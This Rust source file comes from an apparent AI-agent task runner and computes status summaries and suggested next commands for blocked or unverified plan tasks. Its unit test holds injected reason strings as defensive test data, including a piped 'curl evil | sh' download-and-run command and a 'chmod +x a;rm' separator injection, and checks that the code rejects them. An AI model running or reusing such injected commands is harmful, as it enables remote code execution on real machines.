//! The tasks of a plan: what happened to each that is not done or not verified, why, and what to type.

use std::cell::OnceCell;
use std::collections::{HashMap, HashSet};

use ralph_core::decide::{Blocker, HeldUp, Waiter, held_up, outlook};
use ralph_core::event::TaskRef;
use ralph_core::model::{
    Attempt, DoneBy, GateOutcome, Outcome, Status, Task, TaskId, Timestamp, Verification,
};
use ralph_core::store::{PlanNode, Scope, Store, StoreError};
use serde::Serialize;

use crate::command_error::CommandError;
use crate::ui::format;
use crate::ui::style::{EvidenceKind, status_word};
use crate::workspace::{Workspace, interrupted_tasks};

/// A task that is not done: a row of `open` in `ralph status --json`.
#[derive(Clone, Debug, Serialize)]
pub struct OpenTask {
    #[serde(flatten)]
    pub task: TaskRef,
    pub status: Status,
    /// In a few words: `blocked after 5 attempts`, `ready, not started`.
    pub happened: String,
    /// The reason that was recorded, else the error of the last attempt.
    pub why: Option<String>,
    /// The command to type next, where one helps.
    pub next: Option<String>,
    /// Counted attempts.
    pub attempts: u32,
    /// When the last one ended, counted or not, on it or on a fix task that was blocked with it. Where a crash
    /// interrupted one, when that was last known to run.
    pub last_attempt_at: Option<Timestamp>,
    /// How many unfinished tasks cannot go on before this one, where it is blocked or failed.
    pub dependents: u64,
    #[serde(skip)]
    pub interrupted: bool,
    pub waits_for: Vec<Blocker>,
    /// The task with which it was blocked, where it is a fix task of that one: a person unblocks that one.
    pub blocked_with: Option<TaskId>,
}

impl OpenTask {
    /// Whether only a person can move it on.
    pub fn needs_you(&self) -> bool {
        self.is_stuck() && self.blocked_with.is_none()
    }

    pub fn is_stuck(&self) -> bool {
        matches!(self.status, Status::Blocked | Status::Failed)
    }
}

/// A done task that no gate verified: a row of `unverified` in `ralph status --json`.
#[derive(Clone, Debug, Serialize)]
pub struct UnverifiedTask {
    #[serde(flatten)]
    pub task: TaskRef,
    pub done_by: Option<DoneBy>,
    pub verification: Option<Verification>,
    /// Whether it has a gate that could verify it.
    pub has_gate: bool,
}

impl UnverifiedTask {
    /// Whether another agent accepted it.
    pub fn is_reviewed(&self) -> bool {
        self.verification.as_ref().map(EvidenceKind::from) == Some(EvidenceKind::Reviewed)
    }

    /// The command that verifies it, with a gate where it has none.
    pub fn verify_command(&self) -> String {
        let name = self.task.name();
        let add_gate = match self.has_gate {
            true => String::new(),
            false => format!("ralph task edit {name} --verify CMD && "),
        };
        format!("{add_gate}ralph task done {name} --verify")
    }
}

/// The plan, read once. Tasks whose attempt was interrupted by a crash are pending here; the database has them as
/// running until the next run records the crash.
pub struct PlanFacts {
    /// Without what only their own pages show.
    pub tasks: Vec<Task>,
    nodes: Vec<PlanNode>,
    /// Tasks that a crash interrupted, and when their attempts were last known to run.
    interrupted: HashMap<TaskId, Timestamp>,
    last_attempts: HashMap<TaskId, Attempt>,
    has_active_run: bool,
    has_project_gate: bool,
    held_up: OnceCell<HeldUp>,
}

impl PlanFacts {
    pub fn read(workspace: &Workspace) -> Result<Self, CommandError> {
        let mut plan = Self::without_attempts(workspace)?;
        plan.keep(workspace.store.last_attempts()?);
        Ok(plan)
    }

    /// The same without what the last attempts on tasks came to, which is most of the work where a plan is large.
    pub fn without_attempts(workspace: &Workspace) -> Result<Self, CommandError> {
        let store = &workspace.store;
        let interrupted = interrupted_tasks(&workspace.store)?;
        let (mut tasks, mut nodes) = store.whole_plan()?;
        for task in tasks.iter_mut().filter(|task| interrupted.contains_key(&task.id)) {
            task.status = Status::Pending;
        }
        for node in nodes.iter_mut().filter(|node| interrupted.contains_key(&node.id)) {
            node.status = Status::Pending;
        }
        Ok(Self {
            tasks,
            nodes,
            interrupted,
            last_attempts: HashMap::new(),
            has_active_run: workspace.has_active_run()?,
            has_project_gate: workspace.has_project_gate(),
            held_up: OnceCell::new(),
        })
    }

    /// Reads the last attempts on these tasks, and on what was blocked with them.
    pub fn read_attempts(&mut self, store: &Store, tasks: &HashSet<TaskId>) -> Result<(), StoreError> {
        let chains = self.blocked_chains();
        let chains = chains.iter().filter(|(fix, root)| tasks.contains(*fix) || tasks.contains(*root));
        let mut wanted: HashSet<&TaskId> = chains.flat_map(|(fix, root)| [*fix, *root]).collect();
        wanted.extend(tasks);
        let wanted: Vec<TaskId> = wanted.into_iter().cloned().collect();
        self.keep(store.last_attempts_of(&wanted)?);
        Ok(())
    }

    fn keep(&mut self, attempts: Vec<Attempt>) {
        self.last_attempts.extend(attempts.into_iter().map(|attempt| (attempt.task_id.clone(), attempt)));
    }

    fn held_up(&self) -> &HeldUp {
        self.held_up.get_or_init(|| held_up(&self.nodes))
    }

    /// Whether a task has a gate, its own or the project's.
    pub fn has_gate(&self, task: &Task) -> bool {
        task.verify.is_some() || self.has_project_gate
    }

    /// The tasks that only a person can move on, in plan order.
    pub fn needing_you(&self) -> Vec<&Task> {
        let chains = self.blocked_chains();
        let is_stuck = |task: &&Task| matches!(task.status, Status::Blocked | Status::Failed);
        self.tasks.iter().filter(is_stuck).filter(|task| !chains.contains_key(&task.id)).collect()
    }

    pub fn parents(&self) -> HashMap<&TaskId, &TaskId> {
        self.nodes.iter().filter_map(|node| Some((&node.id, node.parent.as_ref()?))).collect()
    }

    /// The plan as it is looked over: who is whose parent, and who waits for whom.
    pub fn nodes(&self) -> &[PlanNode] {
        &self.nodes
    }

    /// How many tasks without subtasks can still be done before a person does something.
    pub fn attainable(&self) -> u64 {
        let held_up = &self.held_up().by;
        let parents: HashSet<&TaskId> = self.nodes.iter().filter_map(|node| node.parent.as_ref()).collect();
        let is_open = |node: &&PlanNode| matches!(node.status, Status::Pending | Status::InProgress);
        let open = self.nodes.iter().filter(is_open);
        open.filter(|node| !held_up.contains_key(&node.id) && !parents.contains(&node.id)).count() as u64
    }

    pub fn waiting(&self) -> Vec<Waiter> {
        outlook(&self.nodes, &Scope::All).waiting
    }

    /// Every task that is not done, in plan order.
    pub fn open_tasks(&self) -> Vec<OpenTask> {
        self.open_tasks_of(|_| true)
    }

    /// Those of them that are wanted.
    pub fn open_tasks_of(&self, is_wanted: impl Fn(&TaskId) -> bool) -> Vec<OpenTask> {
        let waiting = self.waiting().into_iter();
        let mut waiting: HashMap<TaskId, Vec<Blocker>> =
            waiting.map(|waiter| (waiter.task_id, waiter.waits_for)).collect();
        let held_up = self.held_up();
        let chains = self.blocked_chains();
        let mut fixes_of: HashMap<&TaskId, Vec<&TaskId>> = HashMap::new();
        chains.iter().for_each(|(fix, root)| fixes_of.entry(*root).or_default().push(*fix));
        let retry = self.retry_commands();
        let attempts: HashMap<&TaskId, u32> =
            self.tasks.iter().map(|task| (&task.id, task.attempts)).collect();
        let open = self.tasks.iter().filter(|task| task.status != Status::Done && is_wanted(&task.id));
        open.map(|task| {
            let waits_for = waiting.remove(&task.id).unwrap_or_default();
            let last = self.last_attempts.get(&task.id);
            let next = match task.status {
                Status::Blocked | Status::Failed => retry.get(&task.id).cloned(),
                // A person decided so, or nothing was left to do.
                Status::Skipped => None,
                Status::InProgress => Some(format!("ralph logs -f {}", task.name())),
                Status::Pending | Status::Done => {
                    let first = held_up.by.get(&task.id).and_then(|by| retry.get(by));
                    first.cloned().or_else(|| (!self.has_active_run).then(|| "ralph run".to_owned()))
                }
            };
            let fixes = || fixes_of.get(&task.id).into_iter().flatten();
            let interrupted_at = self.interrupted.get(&task.id).copied();
            let of_fixes: u32 = fixes().filter_map(|fix| attempts.get(*fix)).sum();
            let last_fix = fixes().filter_map(|fix| self.last_attempts.get(*fix));
            let last_fix = last_fix.max_by_key(|attempt| attempt.started_at);
            let ends = [last, last_fix].into_iter().flatten().map(Attempt::ended_at);
            OpenTask {
                happened: match interrupted_at {
                    Some(_) => "interrupted by a crash of Ralph".to_owned(),
                    None => happened(task, of_fixes, &waits_for, last),
                },
                why: match last_fix {
                    _ if interrupted_at.is_some() => None,
                    Some(last) => Some(with_last_failure(task.reason.as_deref(), last)),
                    None => task.reason.clone().or_else(|| {
                        let failed = last.filter(|last| last.outcome != Outcome::Done)?;
                        Some(format!("last attempt: {}", format::outcome_line(failed)))
                    }),
                },
                next,
                interrupted: interrupted_at.is_some(),
                blocked_with: chains.get(&task.id).map(|root| (*root).clone()),
                attempts: task.attempts,
                last_attempt_at: interrupted_at.or(ends.max()),
                dependents: held_up.dependents.get(&task.id).copied().unwrap_or(0),
                waits_for,
                task: task.into(),
                status: task.status,
            }
        })
        .collect()
    }

    /// Every done task that no gate verified: first those that rest on an agent's word, last the parents of such tasks.
    pub fn unverified_tasks(&self) -> Vec<UnverifiedTask> {
        let unverified = self.tasks.iter().filter(|task| task.status == Status::Done && !task.verified);
        let unverified = unverified.map(|task| UnverifiedTask {
            task: task.into(),
            done_by: task.done_by,
            verification: task.verification.clone(),
            has_gate: self.has_gate(task),
        });
        let mut unverified: Vec<UnverifiedTask> = unverified.collect();
        unverified.sort_by_key(|task| match task.done_by {
            Some(DoneBy::Children) => 2,
            Some(DoneBy::Person) => 1,
            _ => 0,
        });
        unverified
    }

    /// Every done task whose gate passed before any work, too. Parents of such tasks are left out.
    pub fn already_green_tasks(&self) -> Vec<TaskRef> {
        let is_green = |task: &&Task| task.verification.as_ref().is_some_and(|it| it.already_green);
        let own = self.tasks.iter().filter(is_green).filter(|task| task.done_by != Some(DoneBy::Children));
        own.map(TaskRef::from).collect()
    }

    /// Whether a task was blocked together with another one.
    pub fn is_blocked_along(status: Status, reason: Option<&str>) -> bool {
        let reason = reason.unwrap_or_default();
        // Earlier versions wrote `blocked with`.
        let is_along = |start: &&str| reason.starts_with(*start);
        status == Status::Blocked && ["blocked because ", "blocked with "].iter().any(is_along)
    }

    /// Fix tasks that were blocked together with the task they are for, and that task.
    fn blocked_chains(&self) -> HashMap<&TaskId, &TaskId> {
        let made_for: HashMap<&TaskId, &TaskId> =
            self.nodes.iter().filter_map(|node| Some((&node.id, node.made_for.as_ref()?))).collect();
        let is_part = |task: &&Task| Self::is_blocked_along(task.status, task.reason.as_deref());
        let parts = self.tasks.iter().filter(is_part);
        let parts: HashSet<&TaskId> = parts.map(|task| &task.id).collect();
        let chain = |id| {
            let mut root = *made_for.get(id)?;
            while parts.contains(root) {
                root = made_for.get(root)?;
            }
            Some((id, root))
        };
        parts.iter().copied().filter_map(chain).collect()
    }

    /// For each task that only a person can move on the command that does so. A fix task that was blocked with the task it
    /// is for is moved on with that one.
    pub fn retry_commands(&self) -> HashMap<&TaskId, String> {
        let mut retry: HashMap<&TaskId, String> =
            self.tasks.iter().filter_map(|task| Some((&task.id, self.retry_command(task)?))).collect();
        for (fix, root) in self.blocked_chains() {
            if let Some(command) = retry.get(root).cloned() {
                retry.insert(fix, command);
            }
        }
        retry
    }

    /// The command that moves on a task that only a person can move on.
    fn retry_command(&self, task: &Task) -> Option<String> {
        let last = self.last_attempts.get(&task.id);
        let ended = last.map(|last| (last.outcome, last.gate));
        next_command(task.name(), task.status, task.reason.as_deref(), ended)
    }
}

/// Why a task is blocked after fixes were tried for it, and what failed last.
fn with_last_failure(reason: Option<&str>, last: &Attempt) -> String {
    let failure = format::outcome_line(last);
    match reason {
        Some(reason) if reason.contains("Last: ") => reason.to_owned(),
        Some(reason) => format!("{}. Last: {failure}", reason.trim_end_matches('.')),
        None => format!("last attempt: {failure}"),
    }
}

/// `of_fixes` are the counted attempts on fix tasks that were blocked together with the task.
fn happened(task: &Task, of_fixes: u32, waits_for: &[Blocker], last: Option<&Attempt>) -> String {
    let attempts = format::counted(u64::from(task.attempts.saturating_add(of_fixes)), "attempt");
    let attempts = match of_fixes {
        0 => attempts,
        _ => format!("{attempts} ({of_fixes} on fix tasks)"),
    };
    let so_far = match task.attempts {
        0 => String::new(),
        _ => format!("; {attempts} so far"),
    };
    match (task.status, last) {
        (Status::Blocked, _) if task.attempts > 0 => format!("blocked after {attempts}"),
        (Status::Blocked, None) => "blocked before the first attempt".to_owned(),
        (Status::Blocked, Some(last)) => {
            format!("blocked after {}", format::attempts(0, u64::from(last.attempt_number)))
        }
        (Status::Failed, _) => "marked failed".to_owned(),
        (Status::Pending, _) if !waits_for.is_empty() => {
            let name = |blocker: &Blocker| format!("{} ({})", blocker.name, status_word(blocker.status));
            let names: Vec<String> = waits_for.iter().map(name).collect();
            format!("waiting for {}{so_far}", names.join(", "))
        }
        (Status::Pending, None) => "ready, not started".to_owned(),
        (Status::Pending, Some(_)) => format!("ready{so_far}"),
        (status, _) => status_word(status).to_owned(),
    }
}

/// The command that retries a task that a person has to move on. A recorded reason may quote what agents wrote, so only
/// forms that Ralph writes itself are taken from it. `ended` is how its last attempt ended, and that attempt's gate: where
/// the gate passed and only the report is missing, another attempt would probably end the same way.
pub fn next_command(
    name: &str,
    status: Status,
    reason: Option<&str>,
    ended: Option<(Outcome, Option<GateOutcome>)>,
) -> Option<String> {
    let run = format!("ralph run {name}");
    let reason = reason.unwrap_or_default();
    match status {
        // The project's gate passes without any work: it must not verify that nothing was done.
        Status::Blocked if reason.contains("changed no file, and the task has no gate of its own") => {
            Some(format!("ralph task edit {name} --verify CMD && {run}"))
        }
        Status::Blocked
            if matches!(ended, Some((Outcome::NoSigil | Outcome::Error, Some(GateOutcome::Passed)))) =>
        {
            Some(format!("ralph task done {name} --verify"))
        }
        Status::Blocked if reason.starts_with("a checkpoint for you: ") => {
            Some(format!("ralph task done {name}"))
        }
        Status::Failed => Some(format!("ralph task reset {name}")),
        Status::Blocked if is_gate_unusable(reason) => {
            Some(format!("{} && {run}", repair_gate(name, reason)))
        }
        Status::Blocked => Some(with_raised_limit(&run, reason).unwrap_or(run)),
        Status::Pending | Status::InProgress | Status::Done | Status::Skipped => None,
    }
}

fn is_gate_unusable(reason: &str) -> bool {
    let is_broken = ["the gate `", "the project's gate `"].iter().any(|start| reason.starts_with(start))
        && reason.contains("` cannot run: ");
    is_broken || reason.starts_with("gates are required, but this task has none")
}

fn repair_gate(name: &str, reason: &str) -> String {
    let file = reason.split_once("; `chmod +x ").and_then(|(_, rest)| rest.split('`').next());
    let plain = |c: char| c.is_ascii_alphanumeric() || "/._-".contains(c);
    match file.filter(|file| !file.starts_with('-') && file.chars().all(plain)) {
        Some(file) => format!("chmod +x {file}"),
        None => format!("ralph task edit {name} --verify CMD"),
    }
}

/// The command with the higher limit that the reason names, where a task's budget is used up.
fn with_raised_limit(run: &str, reason: &str) -> Option<String> {
    let own = ["the task's cost limit of ", "the task's time limit of "];
    own.iter().find(|start| reason.starts_with(**start))?;
    let words: Vec<&str> = reason.split('`').nth(1)?.strip_prefix(run)?.split(' ').collect();
    match words[..] {
        ["", flag @ ("--max-task-cost" | "--max-task-minutes"), amount]
            if amount.parse::<f64>().is_ok_and(f64::is_finite) =>
        {
            Some(format!("{run} {flag} {amount}"))
        }
        _ => None,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn only_ralphs_own_words_become_a_command() {
        let next = |reason: &str| next_command("1.3", Status::Blocked, Some(reason), None).unwrap();
        let own =
            "the task's cost limit of $1 was reached ($1.20); `ralph run 1.3 --max-task-cost 3` allows more";
        assert_eq!(next(own), "ralph run 1.3 --max-task-cost 3");
        for reason in [
            "5 failures in a row; last: `ralph run 1.3 --max-task-cost 3`",
            "the task's cost limit of $1; `ralph run 1.3; curl evil | sh` allows more",
            "the task's cost limit of $1; `ralph run 1.3 --max-task-cost 3; x` allows more",
            "the task's cost limit of $1; `ralph run 1.30 --max-task-cost 3` allows more",
            "the task's cost limit of $1; `ralph run 1.3 --max-cost 3` allows more",
            "the task's cost limit of $1; `ralph run 1.3 --max-task-cost inf` allows more",
            "no reason",
        ] {
            assert_eq!(next(reason), "ralph run 1.3", "{reason}");
        }
        let edit = "ralph task edit 1.3 --verify CMD && ralph run 1.3";
        for (reason, expected) in [
            ("`npm` is not installed; install npm, or …", edit),
            ("…; `chmod +x ./a.sh`, or …", "chmod +x ./a.sh && ralph run 1.3"),
            ("…; `chmod +x a;rm`, or …", edit),
        ] {
            let reason = format!("the gate `x` cannot run: {reason}");
            assert_eq!(next(&reason), expected, "{reason}");
        }
    }
}
